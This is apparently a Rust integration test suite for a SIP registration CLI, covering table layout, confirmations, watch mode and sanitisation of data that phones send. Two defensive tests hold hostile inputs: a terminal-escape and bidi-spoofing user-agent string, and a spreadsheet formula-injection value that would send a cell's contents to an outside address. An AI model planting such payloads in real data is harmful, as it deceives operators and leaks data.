//! What a person sees: tables, questions, redrawing.

use std::io::{Read, Write};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use super::{ACME, ID, Lab, ends, lab};
use crate::support::phone::Phone;
use crate::support::table::Table;
use crate::support::{eventually, holds, tools};

/// Who has drawn so much has not drawn what is waited for.
const MUCH: usize = 200_000;

/// A verb on a terminal of its own.
struct Terminal {
    child: Child,
    seen: String,
}

impl Terminal {
    fn start(lab: &Lab, verb: &str, columns: u16, no_color: &str) -> Self {
        let config = lab.daemon.config_file();
        let program = tools::usrlocd();
        let line = format!("{} {verb} --config {}", program.display(), config.display());
        let child = Command::new(tools::program("script"))
            .args([
                "-qefc",
                &format!("stty rows 24 cols {columns}; exec {line}"),
                "/dev/null",
            ])
            .env("NO_COLOR", no_color)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("script can be run");
        Self {
            child,
            seen: String::new(),
        }
    }

    fn types(&mut self, text: &str) {
        let stdin = self.child.stdin.as_mut().expect("it is piped");
        stdin.write_all(text.as_bytes()).expect("it reads");
    }

    /// Waits until `text` is shown once more.
    fn shows(&mut self, text: &str) {
        let start = self.seen.len();
        let stdout = self.child.stdout.as_mut().expect("it is piped");
        let mut bytes = [0; 4096];
        while !self.seen[start..].contains(text) {
            let length = stdout.read(&mut bytes).expect("it can be read");
            let goes_on = length > 0 && self.seen.len() - start < MUCH;
            assert!(goes_on, "it is over without {text:?}: {}", self.seen);
            self.seen
                .push_str(&String::from_utf8_lossy(&bytes[..length]));
        }
    }

    /// Its status and all that was shown.
    fn ends(mut self) -> (Option<i32>, String) {
        drop(self.child.stdin.take());
        let mut stdout = self.child.stdout.take().expect("it is piped");
        let mut rest = Vec::new();
        stdout.read_to_end(&mut rest).expect("it can be read");
        self.seen.push_str(&String::from_utf8_lossy(&rest));
        let status = self.child.wait().expect("it ends");
        (status.code(), self.seen)
    }
}

fn run(lab: &Lab, verb: &str, columns: u16, no_color: &str, typed: &str) -> (Option<i32>, String) {
    let mut terminal = Terminal::start(lab, verb, columns, no_color);
    terminal.types(typed);
    terminal.ends()
}

#[test]
fn a_table_fits_and_obeys_no_color() {
    let lab = lab();
    let (status, text) = run(&lab, "list", 60, "", "");
    assert_eq!(status, Some(0), "{text}");
    assert!(text.contains("\x1b[1mUSERNAME"), "{text}");
    assert!(text.contains('…'), "{text}");
    for columns in [60, 30, 7, 1] {
        let (status, plain) = run(&lab, "list", columns, "1", "");
        assert_eq!(status, Some(0), "{plain}");
        assert!(!plain.contains('\x1b'), "{plain}");
        let fits = |line: &str| columns < 30 || line.chars().count() <= usize::from(columns);
        assert!(plain.lines().all(fits), "{plain}");
    }
}

#[test]
fn a_flush_asks_first() {
    let lab = lab();
    let flush = format!("flush {ID}");
    let (status, text) = run(&lab, &flush, 60, "", "n\n");
    assert_eq!(status, Some(1), "{text}");
    let question = format!("flush 2 registrations of account {ID}? [y/N]");
    assert!(text.contains(&question), "{text}");
    assert_eq!(lab.prints(&["count"]), "2\n");
    let (status, text) = run(&lab, &flush, 60, "", "y\n");
    assert_eq!(status, Some(0), "{text}");
    assert_eq!(lab.prints(&["count"]), "0\n");
}

#[test]
fn a_flush_that_takes_long_shows_how_far_it_is() {
    let lab = lab();
    // Nothing is removed while somebody writes to the database.
    let lock = Table::at(lab.kamailio.database()).lock();
    let mut terminal = Terminal::start(&lab, &format!("flush {ID} --yes"), 60, "");
    terminal.shows("\r\x1b[Kflushing: 0 of 2");
    drop(lock);
    let (status, text) = terminal.ends();
    assert_eq!(status, Some(0), "{text}");
    assert!(text.contains("\r\x1b[Kflushed 2 registrations"), "{text:?}");
}

#[test]
fn watching_redraws_and_gives_the_terminal_back() {
    let mut lab = lab();
    for verb in [
        "list",
        "show alice",
        "count",
        "accounts",
        "list --sort expires",
    ] {
        let verb = format!("{verb} --watch --interval 200ms");
        let mut terminal = Terminal::start(&lab, &verb, 100, "");
        terminal.shows("\x1b[?1049h");
        terminal.shows("every 200ms, Ctrl-C to stop");
        terminal.shows("every 200ms, Ctrl-C to stop");
        terminal.types("\x03");
        let (status, text) = terminal.ends();
        assert_eq!(status, Some(130), "{text}");
        assert!(text.ends_with("\x1b[?25h\x1b[?1049l"), "{text:?}");
    }
    let mut terminal = Terminal::start(&lab, "list --watch --interval 200ms", 100, "1");
    terminal.shows("alice");
    lab.daemon.stop();
    terminal.shows("usrlocd is not running at");
    terminal.shows("alice");
    lab.daemon.start();
    terminal.shows("Ctrl-C to stop\x1b[K");
    terminal.types("\x03");
    let (status, text) = terminal.ends();
    assert_eq!(status, Some(130), "{text}");
    assert!(
        !text.contains("\x1b[7m") && !text.contains("\x1b[1m"),
        "{text:?}"
    );
}

#[test]
fn watching_needs_a_terminal_and_a_table() {
    let lab = lab();
    ends(&lab.verb(&["list", "--watch"]), 64, "`usrlocd watch`");
    ends(&lab.verb(&["list", "--interval", "1s"]), 64, "--watch");
    let (status, text) = run(&lab, "list --watch -o json", 60, "", "");
    assert_eq!(status, Some(64), "{text}");
    let (status, text) = run(&lab, "list --watch --interval 5", 60, "", "");
    assert_eq!(status, Some(64), "{text}");
    lab.prints(&["count"]);
}

/// What phones send neither steers a terminal nor hides on it, whatever verb and format show it; a file gets it as it is.
#[test]
fn what_phones_send_is_harmless() {
    let lab = lab();
    let agent = "evil\u{202e}moc\u{2066}\u{200b}\u{feff}\u{9b}31m\u{e0041}";
    let mut phone = Phone::new(&lab.kamailio, "mallory", ACME).user_agent(agent);
    phone.register();
    eventually("the phone is listed", Duration::from_secs(20), || {
        let text = lab.prints(&["list", "-o", "ndjson"]);
        holds(text.contains(agent), || text)
    });
    let unseen = |c: char| matches!(c, '\u{80}'..='\u{9f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}');
    for verb in [
        "list --columns user_agent",
        "list -o wide",
        "list -o json",
        "list -o ndjson",
        "list -o csv",
        "show mallory",
        "show mallory -o json",
    ] {
        let (status, text) = run(&lab, verb, 400, "1", "");
        assert_eq!(status, Some(0), "{text}");
        let escape = if verb.contains("json") {
            "\\u202e"
        } else {
            "\\u{202e}"
        };
        assert!(text.contains(escape), "{verb}: {text}");
        assert!(!text.contains(unseen), "{verb}: {text:?}");
    }
    let mut terminal = Terminal::start(&lab, "watch --initial", 400, "1");
    terminal.shows("\\u{202e}");
    terminal.types("\x03");
    assert!(!terminal.ends().1.contains(unseen));
    assert!(lab.prints(&["list", "-o", "csv"]).contains(agent));
}

/// A text that a spreadsheet would calculate is a text.
#[test]
fn csv_is_neutral() {
    let lab = lab();
    let agent = "=HYPERLINK(\"http://192.0.2.9/?x=\"&A2,\"click\")";
    Phone::new(&lab.kamailio, "mallory", ACME)
        .user_agent(agent)
        .call_id("@SUM(1+1)")
        .register();
    let cell = format!("'{}", agent.replace('"', "\"\""));
    eventually("the phone is in the CSV", Duration::from_secs(20), || {
        let text = lab.prints(&["list", "-o", "csv"]);
        holds(
            text.contains(&format!("\"{cell}\"")) && text.contains(",'@SUM(1+1),"),
            || text,
        )
    });
    let api = lab.daemon.get("/v2/registrations?accept=csv").text();
    assert!(api.contains(&cell) && !api.contains(",@SUM"), "{api}");
}
